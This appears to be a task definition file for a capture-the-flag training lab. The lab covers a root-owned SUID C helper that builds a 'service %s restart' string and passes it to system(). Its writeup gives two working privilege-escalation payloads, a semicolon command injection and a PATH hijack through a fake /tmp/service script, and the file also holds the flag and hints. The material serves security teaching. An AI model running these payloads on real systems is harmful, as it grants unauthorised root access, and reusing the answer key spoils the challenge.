import { md } from '../../markdown'
import type { TaskSeed } from '../../types'

export const setuidWrapper: TaskSeed = {
  id: 209,
  title: 'A helper with privileges',
  difficulty: 'medium',
  points: 150,
  important: true,
  status: 'active',
  description: md`
    The operators wanted to let everyone restart one service without knowing the root password. They
    wrote a small C program, gave it to \`root\` and set the SUID bit. It has been restarting the
    service for years, and it will do other things too.

    ### Your task

    1. Find the program:

       \`\`\`bash
       find / -perm -4000 -type f -ls 2>/dev/null
       \`\`\`

    2. Read its source, which is attached. The part that matters:

       \`\`\`c
       setuid(0);
       snprintf(command, sizeof command, "service %s restart", argv[1]);
       system(command);
       \`\`\`

    3. Name **two** different mistakes in these lines. The file system of this lab is read-only, so one
       of them is out of reach here: use the other.
    4. Read \`/root/flag.txt\`.

    | Fact about \`system()\` | Why it matters here |
    |---|---|
    | It starts a shell | the shell has a syntax of its own |
    | It searches \`PATH\` | you own that variable |
    | It inherits the environment | not only \`PATH\` |
  `,
  flags: [{ id: 2091, prefix: 'flag', stem: 'absolute_paths_only', isInLab: true }],
  hints: [
    {
      id: 2091,
      cost: 0,
      text: md`What happens to the command if the argument contains a semicolon?`,
    },
    {
      id: 2092,
      cost: 15,
      text: md`
        Quote the whole argument, so that your own shell leaves the semicolon alone: the program's shell
        must be the one that finds it.
      `,
    },
  ],
  attachments: [{ name: 'restart-service.c', size: 960 }],
  writeup: {
    rule: 'after_solve',
    content: md`
      **Mistake one**: user input goes into a shell command.

      \`\`\`bash
      /usr/local/bin/restart-service 'x; cat /root/flag.txt; :'
      \`\`\`

      **Mistake two**: \`service\` has no absolute path. Where a directory can be written to, this works
      as well:

      \`\`\`bash
      printf '#!/bin/sh\ncat /root/flag.txt\n' > /tmp/service
      chmod +x /tmp/service
      PATH=/tmp:$PATH /usr/local/bin/restart-service x
      \`\`\`

      A safe version does not use a shell at all. It calls \`execve\` with a fixed path, a fixed
      environment and an argument checked against a list of allowed names. Better still, it does not
      exist: a \`sudo\` rule for exactly one command does the same job.
    `,
  },
  lab: {
    expectedSeconds: 20,
    lifetimeSeconds: 3600,
    extendWindowSeconds: 900,
    endpoints: [{ label: 'Server console', protocol: 'ssh', port: 22 }],
    hasTerminal: true,
  },
  competencies: [6, 7],
  gitlabId: 4209,
}
